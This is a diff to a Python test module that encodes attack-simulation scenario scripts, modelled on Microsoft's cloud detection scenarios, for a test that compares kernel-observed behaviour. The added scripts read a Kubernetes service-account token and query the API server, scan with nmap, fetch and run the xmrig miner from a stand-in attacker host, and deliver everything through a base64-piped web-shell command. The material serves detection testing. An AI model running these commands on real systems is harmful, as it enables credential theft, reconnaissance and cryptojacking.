@@ -1,16 +1,27 @@
-"""Microsoft's lateral-movement and secrets scenario scripts, as the tests send them to the victim.
+"""Microsoft's scenario scripts, as the tests send them to the victim.
 
 Our own text of the original's behaviour, written from the command lines that ../../shared/reference/original-tool.md records (its appendix), in the
 original's order and with its branches: the same programs with the same arguments, the same pipes, the same
 variable expansions (unquoted where the original leaves them unquoted: `echo $group`, `find / -path */...`). The
 comparison test (test_clouds.py) sends each one as the original attacker does, one web-shell request with
-`cmd=echo <base64>| base64 -d| bash`, and compares what the kernel saw with what the collection's techniques
+`cmd=echo <base64>| base64 -d| bash` (the web shell scenario: `cmd=whoami`), and compares what the kernel saw with what the collection's techniques
 made it see, process by process. What they print is never shown by the tests: it holds secrets barely cut.
 """
 import base64
 
 IMDS = "http://169.254.169.254"
 TOKEN_FILE = "/var/run/secrets/kubernetes.io/serviceaccount/token"
+
+REVIEW = ('{"kind":"SelfSubjectAccessReview","apiVersion":"authorization.k8s.io/v1","metadata":{"creationTimestamp":null},'
+          '"spec":{"resourceAttributes":{"namespace":"default","verb":"get","resource":"pods"}},"status":{}}')
+
+RECON = r"""
+sa_token=`cat %(token)s`
+body='%(review)s'
+review=`curl -s -k -A "kubectl" -H "Authorization: Bearer $sa_token"  -H "Content-Type: application/json" -X POST -d $body "https://kubernetes.default/apis/authorization.k8s.io/v1/selfsubjectaccessreviews"| grep -Po '"status":\{\K.*?(?=\})'`
+echo "review: $review"
+nmap  -Pn --open kubernetes.default/24 -p 443
+""" % {"token": TOKEN_FILE, "review": REVIEW}
 
 LATERAL_MOVEMENT = r"""
 gcp_url="%(imds)s/computeMetadata/v1/instance/service-accounts/default/token"
@@ -55,9 +66,26 @@ else
 fi
 """ % {"imds": IMDS, "token": TOKEN_FILE}
 
-SCRIPTS = {"lateral_movement": LATERAL_MOVEMENT, "secrets": SECRETS}
+CRYPTO = r"""
+/sbin/modprobe msr allow_writes=on > /dev/null 2>&1
+touch /etc/ld.so.preload
+curl -sO http://mdc-simulation-attacker/xmrig
+chmod +x xmrig
+./xmrig
+"""
+
+TI_DOMAIN = r"""
+curl -s -m 10 -X POST "http://mdc-eicar.alerts.security.azure.com?SendingData" -o /dev/null
+"""
+
+# Every scenario, as the original names them in our spelling; webshell has no script: its command is whoami.
+SCRIPTS = {"recon": RECON, "lateral_movement": LATERAL_MOVEMENT, "secrets": SECRETS, "crypto": CRYPTO,
+           "ti_domain": TI_DOMAIN, "webshell": None}
 
 
-def web_shell_command(script):
-    """The command the original attacker hands to the web shell for a scenario script."""
+def web_shell_command(scenario):
+    """The command the original attacker hands to the web shell for a scenario."""
+    script = SCRIPTS[scenario]
+    if script is None:
+        return "whoami"
     return "echo %s| base64 -d| bash" % base64.b64encode(script.encode()).decode()
